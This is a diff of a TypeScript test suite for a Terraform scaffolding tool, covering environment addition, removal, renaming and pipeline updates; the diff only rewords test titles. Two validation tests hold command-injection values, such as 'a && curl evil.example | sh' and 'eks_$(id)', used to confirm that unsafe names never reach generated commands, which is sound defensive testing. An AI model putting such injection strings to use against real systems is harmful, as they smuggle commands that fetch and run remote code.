@@ -8,10 +8,10 @@ import { answerProblems, scaffolded } from '../../../support/scaffold/scaffolded
 const platforms = ['minimal', 'multi-cloud', 'released', 'three-environments'];
 
 for (const name of platforms) {
-  describe(`an environment of ${name}`, () => {
+  describe(`an added environment of ${name}`, () => {
     const before = readSamplePlatform(name);
 
-    it('is added everywhere, inherits everything, and changes no other', async () => {
+    it('exists in every module, inherits everything, and changes no other environment', async () => {
       const known = await effective(before);
       const { texts } = await scaffolded(before, 'environment', { env: 'apps-dev' });
       const { 'apps-dev': added, ...others } = await effective(texts);
@@ -22,7 +22,7 @@ for (const name of platforms) {
         if (!/terraform\.workspace|on_call/.test(JSON.stringify(before))) assert.equal(added?.[module], text, module);
     });
 
-    it('is added once', async () => {
+    it("can't be added twice", async () => {
       const { texts } = await scaffolded(before, 'environment', { env: 'apps-dev' });
       assert.match(
         (await answerProblems(texts, 'environment', { env: 'apps-dev' })).join('\n'),
@@ -30,7 +30,7 @@ for (const name of platforms) {
       );
     });
 
-    it('is removed again without a trace', async () => {
+    it('can be removed without a trace', async () => {
       const { texts } = await scaffolded(before, 'environment', { env: 'apps-dev' });
       const removed = await scaffolded(texts, 'removeEnvironment', {
         env: 'apps-dev',
@@ -41,14 +41,14 @@ for (const name of platforms) {
       assert.match(removed.followUp.join('\n'), /workspace select ops`, then `\w+ workspace delete apps-dev`/);
     });
 
-    it('is removed by nobody before its workspace is empty', async () => {
+    it('is removed only after its workspace was emptied', async () => {
       const { texts } = await scaffolded(before, 'environment', { env: 'apps-dev' });
       const removed = await scaffolded(texts, 'removeEnvironment', { env: 'apps-dev', confirm: 'apps-dev' });
       assert.deepEqual(removed.changed, []);
       assert.match(removed.followUp.join('\n'), /workspace select apps-dev[\s\S]*destroy -target=[\s\S]*state list/);
     });
 
-    it('gets another name beside the old one', async () => {
+    it('can be copied to a new name while the old one still exists', async () => {
       const known = await effective(before);
       const { texts, followUp } = await scaffolded(before, 'renameEnvironment', { env: 'apps', to: 'workloads' });
       const { workloads, ...others } = await effective(texts);
@@ -62,10 +62,10 @@ for (const name of platforms) {
 }
 
 for (const name of ['minimal', 'released']) {
-  describe(`the conversion of ${name} to three environments`, () => {
+  describe(`converting ${name} to three environments`, () => {
     const before = readSamplePlatform(name);
 
-    it('leaves what the two have, and gives the third what the base had', async () => {
+    it('keeps the values of both environments, and copies those of the base to the third', async () => {
       const known = await effective(before);
       const { texts } = await scaffolded(before, 'threeEnvironments', {});
       const { 'apps-prod': added, ...others } = await effective(texts);
@@ -73,7 +73,7 @@ for (const name of ['minimal', 'released']) {
       assert.deepEqual(added, known['apps']);
     });
 
-    it('orders the keys, sets the base key, and records both in the README', async () => {
+    it('orders the keys, sets the base key, and updates the README', async () => {
       const { texts } = await scaffolded(before, 'threeEnvironments', {});
       const cluster = texts[Object.keys(texts).find(path => path.endsWith('_cluster.tf')) ?? ''] ?? '';
       assert.match(
@@ -86,7 +86,7 @@ for (const name of ['minimal', 'released']) {
         assert.match(texts['README.md'] ?? '', /apps-prod, apps, ops[\s\S]*Base environment\s*\|\s*apps-prod/);
     });
 
-    it('is not offered twice', async () => {
+    it('is not offered again', async () => {
       const { texts } = await scaffolded(before, 'threeEnvironments', {});
       assert.match(
         (await answerProblems(texts, 'threeEnvironments', {})).join('\n'),
@@ -98,7 +98,7 @@ for (const name of ['minimal', 'released']) {
 
 describe('environments', () => {
   for (const name of ['three-environments', 'multi-cloud'])
-    it(`reaches modules of ${name} that nothing binds any more`, async () => {
+    it(`are added to modules of ${name} that nothing calls any more`, async () => {
       const feature = name === 'multi-cloud' ? 'cert_manager' : 'metrics_server';
       const { texts: unbound } = await scaffolded(readSamplePlatform(name), 'removeService', { feature });
       const { texts, changed } = await scaffolded(unbound, 'environment', { env: 'edge' });
@@ -106,7 +106,7 @@ describe('environments', () => {
       assert.match(texts[`modules/${feature}/main.tf`]!, /^ {4}edge = \{\}\n/m);
     });
 
-  it('stand where they are wanted, with what they override', async () => {
+  it('are inserted at the requested position with the requested overrides', async () => {
     const { texts } = await scaffolded(readSamplePlatform('minimal'), 'environment', {
       env: 'edge',
       position: 1,
@@ -117,7 +117,7 @@ describe('environments', () => {
     assert.match(texts['README.md'] ?? '', /\| apps, edge, ops \|/);
   });
 
-  it('keep the line ends of their files', async () => {
+  it('keep the line endings of their files', async () => {
     const before = readSamplePlatform('minimal');
     const path = 'eks_web0_eu-central-1_cluster.tf';
     before[path] = before[path]!.replaceAll('\n', '\r\n');
@@ -127,14 +127,14 @@ describe('environments', () => {
     assert.deepEqual(back.texts, before);
   });
 
-  it('are added to the values that a variable takes, where the platform keeps them there', async () => {
+  it('are added in the variables file that contains the configuration', async () => {
     const before = readSamplePlatform('legacy');
     const { texts, changed } = await scaffolded(before, 'environment', { env: 'apps-dev' });
     assert.deepEqual(changed, ['config.auto.tfvars']);
     assert.match(texts['config.auto.tfvars'] ?? '', /apps-dev = \{\}/);
   });
 
-  it('override what was asked for in one cluster only, also where one value holds all of them', async () => {
+  it('apply an override to one cluster, also if one variable contains the configurations of all', async () => {
     const overrides = { eks_zero: { cluster_max_size: '5' } };
     const { texts } = await scaffolded(readSamplePlatform('legacy'), 'environment', { env: 'apps-dev', overrides });
     const [eks, gke] = (texts['config.auto.tfvars'] ?? '').split('gke_zero');
@@ -142,7 +142,7 @@ describe('environments', () => {
     assert.match(gke ?? '', /apps-dev = \{\}/);
   });
 
-  it('are known to the pipeline too', async () => {
+  it('are added to the pipeline', async () => {
     const facts = { mainBranch: 'trunk', providers: ['aws' as const], program: 'terraform' as const };
     const path = '.github/workflows/main.yaml';
     const before = {
@@ -153,7 +153,7 @@ describe('environments', () => {
     assert.equal(texts[path], githubPipelineText({ ...facts, environments: ['ops', 'apps', 'apps-prod'] }));
   });
 
-  it('leave a pipeline alone that is not ours, and say so', async () => {
+  it('do not change a pipeline of another origin, and say so', async () => {
     const before = { ...readSamplePlatform('minimal'), '.gitlab-ci.yml': 'plan:\n  script: terraform plan\n' };
     const { texts, notes } = await scaffolded(before, 'environment', { env: 'edge' });
     assert.equal(texts['.gitlab-ci.yml'], before['.gitlab-ci.yml']);
@@ -174,12 +174,12 @@ describe('environments', () => {
     ['removeEnvironment', { env: 'nothing' }, /^env: "nothing" is not valid: choose apps or ops/],
     ['threeEnvironments', { base: 'apps' }, /^base: An environment apps/],
   ] as const) {
-    it(`refuse ${kind} with ${JSON.stringify(answers)}`, async () => {
+    it(`reject ${kind} with ${JSON.stringify(answers)}`, async () => {
       assert.match((await answerProblems(readSamplePlatform('minimal'), kind, answers)).join('\n'), problem);
     });
   }
 
-  it('end up in no command when they can’t be workspaces', async () => {
+  it('with unsafe names never become part of a command', async () => {
     const before = readSamplePlatform('minimal');
     for (const name of ['--help', 'a && curl evil.example | sh', '..', 'a`b']) {
       const texts = Object.fromEntries(
@@ -198,7 +198,7 @@ describe('environments', () => {
     }
   });
 
-  it('end up in no command beside modules whose names are none', async () => {
+  it('never become part of a command with an unsafe module name', async () => {
     const before = readSamplePlatform('minimal');
     for (const name of ['eks_`curl evil.example | sh`', 'eks_$(id)', 'eks_a\nb']) {
       const texts = {
@@ -212,7 +212,7 @@ describe('environments', () => {
     }
   });
 
-  it('are confirmed by name before they go', async () => {
+  it('must be confirmed by name before they are removed', async () => {
     const { texts } = await scaffolded(readSamplePlatform('minimal'), 'environment', { env: 'edge' });
     for (const confirm of [undefined, 'ops'])
       assert.match(
